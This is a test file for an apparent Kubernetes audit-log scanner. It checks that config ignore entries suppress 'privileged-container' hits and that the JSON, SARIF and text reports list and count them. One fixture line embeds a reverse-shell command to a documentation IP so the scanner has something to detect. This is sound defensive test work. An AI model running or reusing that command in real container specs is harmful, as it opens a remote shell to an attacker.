// The config's ignore entries in an audit scan: what they suppress is counted and listed with the entry
// that did it (JSON suppressed[], SARIF suppressions, a text count), never dropped unreported. An entry
// is the only suppression an audit log has (an annotation in a logged object is the requester's).
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { DEFAULT_CONFIG, type JobSentinelConfig } from '../src/index.js';
import {
  collectAuditLog,
  formatAuditJson,
  formatAuditSarif,
  formatAuditText,
  type AuditReport,
  type AuditScanOptions,
} from '../src/entries/audit.js';
import { cronJobObject } from './fixtures/audit/canonical.ts';
import { jsonLines, kubeEvent } from './fixtures/audit/events.ts';

const PRIVILEGED_SHELL = { containers: [{ name: 'c', image: 'registry.example.com/acme/app:1.0', command: ['sh', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'], securityContext: { privileged: true } }] };
const config = (ignore: JobSentinelConfig['ignore']): JobSentinelConfig => ({ ...DEFAULT_CONFIG, ignore });
/** The privileged-container hit is a known exception in the ci namespace, and nowhere else. */
const CI_PRIVILEGED = config([{ indicators: ['shell-escape'], users: ['bob@example.com'] }, { indicators: ['privileged-container'], namespaces: ['ci'] }]);

function write(auditID: string, namespace: string, fields: Record<string, unknown> = {}) {
  return kubeEvent({ auditID, requestObject: cronJobObject('build', namespace, PRIVILEGED_SHELL), ...fields }, { namespace });
}

const scan = (text: string, options: AuditScanOptions) => collectAuditLog(new Blob([text]).stream(), { source: 'audit.log', ...options });

describe('ignore entries in an audit scan', () => {
  test('a suppressed hit is listed with its entry and counted; the same write elsewhere is a match', async () => {
    const { matches, suppressed, summary } = await scan(jsonLines(write('in-ci', 'ci'), write('in-prod', 'prod')), { config: CI_PRIVILEGED });
    assert.deepEqual(matches.map((match) => [match.auditID, [...new Set(match.indicators.map((hit) => hit.indicator))].sort()]), [
      ['in-ci', ['shell-escape']],
      ['in-prod', ['privileged-container', 'shell-escape']],
    ]);
    assert.deepEqual(suppressed.map((entry) => [entry.auditID, entry.namespace, entry.user, entry.indicators.map((hit) => [hit.indicator, hit.suppression])]), [
      ['in-ci', 'ci', 'alice@example.com', [['privileged-container', { kind: 'config', location: { pointer: '/ignore/1' } }]]],
    ]);
    assert.equal(summary.suppressed, 1);
    assert.equal(summary.matches, 2);
  });

  test('a write whose every hit is suppressed is no match, still listed; both stages of it count once', async () => {
    const everything = config([{ namespaces: ['ci'] }]);
    const received = write('both', 'ci', { stage: 'RequestReceived', responseStatus: undefined });
    const { matches, suppressed, summary } = await scan(jsonLines(received, write('both', 'ci')), { config: everything });
    assert.deepEqual(matches, []);
    assert.equal(suppressed.length, 1);
    assert.equal(suppressed[0].stage, 'ResponseComplete');
    assert.equal(suppressed[0].outcome, 'allowed');
    assert.deepEqual([...new Set(suppressed[0].indicators.map((hit) => hit.indicator))].sort(), ['privileged-container', 'shell-escape']);
    // The hits of one request (two shell-escape, one privileged-container), not those of each stage.
    assert.equal(summary.suppressed, suppressed[0].indicators.length);
    assert.equal(summary.suppressed, 3);
  });

  test('elastic mode lists what its entries suppress too', async () => {
    const { matches, suppressed, summary } = await scan(jsonLines(write('e', 'ci')), { mode: 'elastic', config: CI_PRIVILEGED });
    assert.ok(matches[0].indicators.every((hit) => hit.indicator !== 'privileged-container'));
    assert.deepEqual(suppressed[0].indicators.map((hit) => [hit.indicator, hit.suppression.location.pointer]), [['privileged-container', '/ignore/1']]);
    assert.equal(summary.suppressed, 1);
  });

  test('a severity switched off is no suppression: the user turned the indicator off for everything', async () => {
    const { suppressed, summary } = await scan(jsonLines(write('off', 'ci')), { config: { ...DEFAULT_CONFIG, severity: { 'privileged-container': 'off' } } });
    assert.deepEqual(suppressed, []);
    assert.equal(summary.suppressed, 0);
  });
});

describe('every report says what was suppressed', () => {
  async function report(): Promise<AuditReport> {
    const result = await scan(jsonLines(write('in-ci', 'ci'), write('quiet', 'ci', { requestObject: cronJobObject('quiet', 'ci', { containers: [{ name: 'c', image: 'registry.example.com/acme/app:1.0', securityContext: { privileged: true } }] }) })), { config: CI_PRIVILEGED });
    return { mode: 'structural', files: [{ file: 'audit.log', ...result, problems: [...result.problems], formats: [...result.formats] }], errors: [], configs: ['.jobsentinel.yaml'] };
  }

  test('JSON: suppressed[] with each hit and its entry, and summary.suppressed', async () => {
    const json = JSON.parse(formatAuditJson(await report()));
    assert.deepEqual(json.suppressed.map((entry: { auditID: string; indicators: Array<{ indicator: string; suppression: unknown }> }) => [entry.auditID, entry.indicators.map((hit) => [hit.indicator, hit.suppression])]), [
      ['in-ci', [['privileged-container', { kind: 'config', location: { pointer: '/ignore/1' } }]]],
      ['quiet', [['privileged-container', { kind: 'config', location: { pointer: '/ignore/1' } }]]],
    ]);
    assert.equal(json.summary.suppressed, 2);
    assert.equal(json.summary.matches, 1);
  });

  test('SARIF: each suppressed hit is a result with an external suppression naming the entry', async () => {
    const sarif = JSON.parse(formatAuditSarif(await report(), { toolVersion: '0.0.0' }));
    const results = sarif.runs[0].results as Array<{ ruleId: string; properties: { auditID: string }; suppressions?: Array<{ kind: string; justification: string }> }>;
    const dismissed = results.filter((result) => result.suppressions);
    assert.deepEqual(dismissed.map((result) => [result.ruleId, result.properties.auditID, result.suppressions![0].kind]), [
      ['privileged-container', 'in-ci', 'external'],
      ['privileged-container', 'quiet', 'external'],
    ]);
    assert.match(dismissed[0].suppressions![0].justification, /\/ignore\/1/);
    assert.ok(results.some((result) => result.ruleId === 'shell-escape' && !result.suppressions));
  });

  test('text: the summary counts them; --show-suppressed lists each with its entry', async () => {
    const plain = formatAuditText(await report());
    assert.match(plain, /2 indicator hits suppressed by the config's ignore entries/);
    assert.doesNotMatch(plain, /Suppressed by the config/);
    const listed = formatAuditText(await report(), { showSuppressed: true });
    assert.match(listed, /Suppressed by the config's ignore entries \(2\)/);
    assert.match(listed, /privileged-container .*\[suppressed by ignore entry \/ignore\/1 of the config file\]/);
  });
});
